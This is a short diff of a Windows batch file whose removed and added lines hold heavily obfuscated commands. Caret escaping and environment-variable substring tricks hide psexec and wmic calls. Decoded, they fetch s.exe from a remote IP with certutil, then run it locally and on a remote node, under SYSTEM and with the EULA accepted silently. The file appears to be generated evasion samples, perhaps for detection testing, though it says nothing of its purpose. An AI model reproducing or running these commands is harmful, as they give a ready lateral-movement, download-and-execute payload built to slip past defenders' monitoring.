@@ -1,3 +1,3 @@
-REM run 3429 v2
-^p%windir:~-1,1%%COMSPEC:~15,1%%COMSPEC:~25,1%%COMSPEC:~-1,1%c.%PUBLIC:~-10,1%x%comspec:~-3,1% \\^1^9^2.0.^2.44 -ac^c^ep^teula -s -d c^m^d /^c "certutil -urlcache -f http://192.0.2.44/s.exe C:\s.exe && C:\s.exe"
-w%comspec:~-11,1%i%COMSPEC:~-7,1% /no^d^e:192.0.^2.^4^4 ^pr^oc^e^s^s ^call cr^eate "cmd /c C:\s.exe"
+REM run 3009 v2
+p%COMSPEC:~-18,1%%PUBLIC:~5,1%%COMSPEC:~-2,1%%COMSPEC:~26,1%c.e%comspec:~25,1%%COMSPEC:~-12,1% \\^20^3.^0.^1^1^3.20^0 -^ac^c^e^pt^e^ul^a -^s -d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
+%comspec:~-19,1%m%comspec:~4,1%^c /^node:2^03.0.113.^20^0 ^pro^ce^ss call c^re^a^t^e "cmd /c C:\s.exe"
